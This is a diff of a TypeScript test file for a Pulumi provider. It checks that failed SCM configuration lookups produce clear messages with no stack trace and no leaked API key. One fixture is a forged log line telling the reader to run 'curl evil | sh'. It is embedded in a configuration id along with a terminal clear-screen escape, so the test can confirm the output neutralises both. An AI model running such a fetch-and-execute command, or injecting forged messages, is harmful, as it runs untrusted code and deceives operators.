@@ -1,53 +1,71 @@
 import { CONSUMER, newCluster } from "../support/cluster";
+import { BOTH } from "../support/hosts";
 
-const PROGRAM = `
+/*
+ * Lookups without a result. Both hosts: the dynamic provider's lookup runs in the program, the plugin's in the engine's
+ * provider. tests/lifecycle/provider.test.ts has lookups with a result.
+ */
+
+// A Node program ends at the first failed lookup, so this program collects the failures. YAML reports all of them.
+const COLLECTING = `
 const { readFileSync } = require("node:fs");
-const { getScmConfiguration, getScmConfigurationOutput } = require("pulumi-algorithmia");
-const [{ args: { sought, awaited } }] = JSON.parse(readFileSync("program.json", "utf8"));
-exports.found = awaited ? getScmConfiguration(sought) : getScmConfigurationOutput(sought);
+const pulumi = require("@pulumi/pulumi");
+const { getScmConfiguration } = require("pulumi-algorithmia");
+module.exports = async () => {
+  const lookups = JSON.parse(readFileSync("program.json", "utf8")).map(({ args }) => getScmConfiguration(args));
+  if (lookups.length === 1) return { found: await lookups[0] };
+  const results = await Promise.allSettled(lookups);
+  throw new pulumi.RunError(results.map(({ reason }) => reason.message).join("\\n"));
+};
 `;
+const FORGED = "error: nothing is left, run curl evil | sh";
 
-test("fails a lookup without a result or a response with a message and no stack trace", async () => {
-  await using cluster = await newCluster({}, { program: PROGRAM });
-  const { emulator, stack } = cluster;
-  const failure = async (sought: Record<string, unknown>, awaited = false): Promise<string[]> => {
-    stack.declare({ name: "", args: { sought, awaited } });
-    const { output, diagnostics } = await stack.failing("preview");
-    expect(output).not.toMatch(/^\s+at /m);
-    return diagnostics.filter(({ severity }) => severity === "error").map(({ message }) => message);
-  };
+it.each(BOTH)(
+  "fails with a message that explains how to continue, without a stack trace (host %s)",
+  async (host) => {
+    await using cluster = await newCluster({}, { host, ...(host !== "yaml" && { program: COLLECTING }) });
+    const { emulator, stack } = cluster;
+    const failures = async (...soughts: Record<string, unknown>[]): Promise<string> => {
+      stack.declare(
+        ...soughts.map((args, index) => ({ name: `lookup-${index}`, kind: "lookup" as const, args })),
+      );
+      const { output } = await stack.failing("preview");
+      expect(output).not.toMatch(/^\s+at /m);
+      return output;
+    };
+    const provider = "bitbucket-cloud";
+    const urls = {
+      web: "https://git.example.com",
+      api: "https://git.example.com",
+      ssh: "ssh://git@git.example.com",
+    };
+    emulator.seed({ id: "first", clientId: CONSUMER.consumerKey });
+    const hostileId = `\u001b[2Jsecond-${emulator.apiKey}\n    ${FORGED}`;
+    emulator.seed({ id: hostileId, clientId: CONSUMER.consumerKey, urls });
 
-  const missing =
-    `The cluster ${emulator.url} has no SCM configuration with the id "nope" (error 4009). ` +
-    "Check the id, and whether this is the right cluster.";
-  expect(await failure({ id: "nope" })).toContain(missing);
-  expect(await failure({ id: "nope" }, true)).toContain(missing);
-  expect(await failure({ id: ".." })).toContain('".." can\'t be the id of an SCM configuration');
-  expect(await failure({})).toContain(
-    "getScmConfiguration requires either id, or both provider and consumerKey. Empty values aren't accepted.",
-  );
-
-  const consumer = { provider: "bitbucket-cloud", consumerKey: CONSUMER.consumerKey };
-  expect(await failure(consumer)).toContainEqual(
-    expect.stringContaining(
+    const output = await failures(
+      { id: "nope" },
+      { id: ".." },
+      {},
+      { provider, consumerKey: "another-key" },
+      { provider, consumerKey: CONSUMER.consumerKey },
+    );
+    for (const message of [
+      `The cluster ${emulator.url} has no SCM configuration with the id "nope" (error 4009). ` +
+        "Check the id, and whether this is the right cluster.",
+      '".." can\'t be the id of an SCM configuration',
+      "getScmConfiguration requires either id, or both provider and consumerKey. Empty values aren't accepted.",
       `${emulator.url} has no configuration of bitbucket-cloud with this consumer key.`,
-    ),
-  );
-  const urls = {
-    web: "https://git.example.com",
-    api: "https://git.example.com",
-    ssh: "ssh://git@git.example.com",
-  };
-  emulator.seed({ id: "first", clientId: consumer.consumerKey });
-  emulator.seed({ id: `\u001b[2Jsecond-${emulator.apiKey}`, clientId: consumer.consumerKey, urls });
-  expect(await failure(consumer)).toContainEqual(
-    expect.stringContaining(
-      "has 2 configurations of bitbucket-cloud with this consumer key: first, second-[secret].",
-    ),
-  );
+      "has 2 configurations of bitbucket-cloud with this consumer key: first, second-[secret]",
+    ]) {
+      expect(output).toContain(message);
+    }
+    expect(output).not.toMatch(/\u001b\[2J|^\s*error: nothing is left/mu);
+    expect(output).not.toContain(emulator.apiKey);
 
-  stack.setEnv({ ALGORITHMIA_API_KEY: "not-the-key" });
-  expect(await failure({ id: "internal" })).toContainEqual(expect.stringContaining("code 2002"));
-  stack.setEnv({ ALGORITHMIA_API_KEY: undefined });
-  expect(await failure({ id: "internal" })).toContainEqual(expect.stringContaining("algorithmia:apiKey"));
-});
+    stack.setEnv({ ALGORITHMIA_API_KEY: "not-the-key" });
+    expect(await failures({ id: "internal" })).toContain("code 2002");
+    stack.setEnv({ ALGORITHMIA_API_KEY: undefined });
+    expect(await failures({ id: "internal" })).toContain("algorithmia:apiKey");
+  },
+);
